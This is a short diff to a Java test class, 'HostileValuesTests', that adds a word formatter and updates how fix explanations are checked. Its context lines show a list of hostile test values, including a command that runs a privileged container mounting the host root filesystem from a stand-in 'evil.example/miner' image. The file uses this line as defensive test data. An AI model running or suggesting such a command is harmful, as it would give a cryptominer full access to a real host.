@@ -49,6 +49,8 @@ import tools.jackson.databind.json.JsonMapper;
  * or by a word of its type.
  */
 class HostileValuesTests {
+  private static final Formatter WORDS = new Formatter(Language.EN);
+
   private static final List<String> HOSTILE =
       List.of(
           "x --privileged -v /:/host evil.example/miner:latest sh /run",
@@ -351,9 +353,9 @@ class HostileValuesTests {
   private static void checkPage(Page page, Map<String, CaptureType> types, ExtendedModelMap model) {
     List<?> fixes = (List<?>) model.get("fixes");
     for (int i = 0; i < fixes.size(); i++) {
-      var fix = (FindingView.FixView) fixes.get(i);
+      var fix = (Report.Fix) fixes.get(i);
       assertOneOf(fix.command(), List.of(template(page.remedies().get(i).command().text(), types)));
-      checkBlocks(fix.text(), page.remedies().get(i).text(), types);
+      checkBlocks(WORDS.article(fix.explanation()), page.remedies().get(i).text(), types);
     }
     List<?> parts = (List<?>) model.get("parts");
     for (int i = 0; i < parts.size(); i++) {
